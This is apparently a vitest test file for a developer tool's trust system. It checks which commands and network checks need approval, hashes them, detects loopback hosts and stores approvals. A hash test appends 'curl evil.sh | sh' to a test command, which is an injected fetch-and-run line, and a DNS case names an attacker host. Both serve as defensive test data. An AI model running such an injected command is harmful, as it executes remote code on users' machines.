// Trust: which checks need approval, and a hash that changes exactly when what would run changes.
import { mkdtempSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { isLoopbackHost } from '../../../common/checks.js';
import { deriveChecks } from '../../../main/checks/derive-checks.js';
import { environmentLines } from '../../../main/checks/load-checks.js';
import { needsTrust, trustHash, trustItems, trustState } from '../../../main/checks/trust.js';
import { findApproval, readApprovals, recordApproval } from '../../../main/checks/trust-store.js';
import { MarkdownDoc } from '../../../main/state/markdown-doc.js';

const derive = (text: string) => deriveChecks(environmentLines(MarkdownDoc.fromString(text)));
const ENV = `## Setup
- Test command: \`pytest tests/\`
- Redis: localhost:6379
## Running Services
- API: http://localhost:8000 start: \`uvicorn app:app\`
## Checks
- http: https://api.example.org/health
- http: http://127.0.0.1:9000/
- http: http://[::1]:9000/
- dns: example.org
`;

describe('trust', () => {
  it('covers commands, start commands and network checks off this machine, nothing else', () => {
    expect(trustItems(derive(ENV)).map((i) => [i.kind, i.value])).toEqual([
      ['command', 'pytest tests/'],
      ['http', 'https://api.example.org/health'],
      ['dns', 'example.org'],
      ['start', 'uvicorn app:app'],
    ]);
    for (const [kind, target] of [['tcp', 'example.org:80'], ['tcp', '10.1.2.3:80'], ['tcp', '0.0.0.0:80'], ['http', 'http://app.localhost:3000/'], ['dns', 'secret.attacker.example'], ['dns', 'localhost.'], ['http', 'not a url']] as const) {
      expect(needsTrust({ kind, target }), `${kind} ${target}`).toBe(true);
    }
    for (const [kind, target] of [['tcp', 'localhost:6379'], ['tcp', '127.0.0.1:80'], ['tcp', '[::1]:80'], ['http', 'http://[::1]:9000/'], ['dns', 'localhost'], ['file', 'x'], ['pid', '1']] as const) {
      expect(needsTrust({ kind, target }), `${kind} ${target}`).toBe(false);
    }
  });

  it('hashes the list regardless of order and source lines, and changes with any command', () => {
    const base = trustHash(trustItems(derive(ENV)));
    const reordered = derive(`## Checks
- dns: example.org
- http: https://api.example.org/health
## Running Services
- API: http://localhost:8000 start: \`uvicorn app:app\`
## Setup
- Unit tests: \`pytest tests/\`
`);
    expect(trustHash(trustItems(reordered))).toBe(base);
    expect(trustHash(trustItems(derive(ENV.replace('pytest tests/', 'pytest tests/ ; curl evil.sh | sh'))))).not.toBe(base);
    expect(trustHash(trustItems(derive(ENV.replace('uvicorn app:app', 'uvicorn app:app --reload'))))).not.toBe(base);
    expect(trustHash(trustItems(derive(ENV.replace('api.example.org', 'api.example.net'))))).not.toBe(base);
  });

  it('says trusted only for the approved hash, and changed when an approval no longer matches', () => {
    const d = derive(ENV);
    const hash = trustHash(trustItems(d));
    expect(trustState(d, null)).toMatchObject({ trusted: false, changed: false });
    expect(trustState(d, { hash, approvedAt: 'x' })).toMatchObject({ trusted: true, changed: false });
    expect(trustState(d, { hash: 'sha256:old', approvedAt: 'x' })).toMatchObject({ trusted: false, changed: true });
    expect(trustState(derive('## Setup\n- Redis: localhost:6379\n'), null).trusted).toBe(true);
  });

  it('knows loopback hosts by their literal text only, never by what a name resolves to', () => {
    expect(['localhost', 'LOCALHOST', '127.0.0.1', '127.1.2.3', '127.255.255.255', '[::1]', '::1', '0:0:0:0:0:0:0:1'].every(isLoopbackHost)).toBe(true);
    const resolvedOrOff = ['localhost.', 'a.localhost', 'localhost.example.org', '127.0.0.256', '127.1', '10.0.0.1', '128.0.0.1', 'example.org', '0.0.0.0', '::ffff:127.0.0.1'];
    expect(resolvedOrOff.filter(isLoopbackHost)).toEqual([]);
  });
});

describe('the trust store', () => {
  const tmp = () => mkdtempSync(path.join(os.tmpdir(), 'mori-trust-'));

  it('keys approvals by the real path of the state dir and by subject', async () => {
    const home = path.join(tmp(), 'home');
    const dir = tmp();
    const link = `${dir}-link`;
    symlinkSync(dir, link);
    expect((await recordApproval(home, link, 'checks', 'sha256:a')).ok).toBe(true);
    expect(findApproval(home, dir, 'checks')).toMatchObject({ ok: true, value: { hash: 'sha256:a', stateDir: realpathSync(dir) } });
    expect(findApproval(home, dir, 'agent-command')).toEqual({ ok: true, value: null });
    expect(findApproval(home, tmp(), 'checks')).toEqual({ ok: true, value: null });
    // A new approval replaces the old one of the same subject.
    await recordApproval(home, dir, 'checks', 'sha256:b');
    expect(readApprovals(home)).toMatchObject({ ok: true, value: [{ hash: 'sha256:b' }] });
  });

  it('approves nothing from a corrupt file and never writes over it', async () => {
    const home = tmp();
    writeFileSync(path.join(home, 'trust.json'), '{"schemaVersion": 1, "approvals": [');
    expect(findApproval(home, tmp(), 'checks')).toMatchObject({ ok: false, code: 'unreadable' });
    expect(await recordApproval(home, tmp(), 'checks', 'sha256:a')).toMatchObject({ ok: false, code: 'unreadable' });
    expect(readFileSync(path.join(home, 'trust.json'), 'utf8')).toBe('{"schemaVersion": 1, "approvals": [');
  });
});
